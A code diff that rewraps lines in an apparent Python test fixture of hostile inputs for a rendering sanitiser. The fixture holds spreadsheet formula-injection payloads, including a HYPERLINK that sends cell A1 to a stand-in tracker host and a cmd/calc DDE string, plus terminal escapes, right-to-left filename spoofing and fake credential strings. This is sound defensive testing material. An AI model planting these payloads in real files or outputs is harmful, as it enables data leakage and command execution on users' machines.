@@ -1,4 +1,6 @@
-"""Posts that try to run something, fetch something, name somebody or pose as us. A live one sets ``window.pwned``."""
+"""Posts that try to run something, fetch something, name somebody or pose as us. A live one sets
+``window.pwned``.
+"""
 
 RUN = "window.pwned=(window.pwned||0)+1"
 AWAY = "https://tracker.example"
@@ -46,7 +48,8 @@ HOSTILE = {
     "fake heading": "# Findings\n\n## Nothing to see here\n\n| a | b |\n|---|---|\n| 1 | 2 |",
     "right-to-left override": "safe \u202egpj.exe\u202c and \u2067isolated\u2069 and \u200fmark",
     "null and bells": "nul\x00l b\x07ell del\x7f c1\x9b31mred\x85next",
-    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://tracker.example\x07link\x1b]8;;\x07 \x1bc",
+    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 "
+    "\x1b]8;;https://tracker.example\x07link\x1b]8;;\x07 \x1bc",
     "formula": '=HYPERLINK("https://tracker.example?"&A1,"total")',
     "formula with a command": "@SUM(1+1)*cmd|' /C calc'!A0",
     "formula behind a tab": "\t=1+1",
@@ -65,7 +68,9 @@ HOSTILE = {
     "masks": "write to [email] or call [phone], card [card]",
     "a key": "my key is AKIAABCDEFGHIJKLMNOP and ghp_" + "a1" * 18,
     "a home folder": "it crashed in /home/alice/report.xlsx and C:\\Users\\bob\\x",
-    # IPython itself fetches a text that begins with an address when it is shown as HTML or Markdown; no test does that.
+    # IPython itself fetches a text that begins with an address when it is shown as HTML or Markdown; no test
+    # does
+    # that.
     "a password": "log in at https://alice:secret99@intranet.example/x",
     "a papermill mark": '<span id="papermill-error-cell">An Exception was encountered</span>',
 }
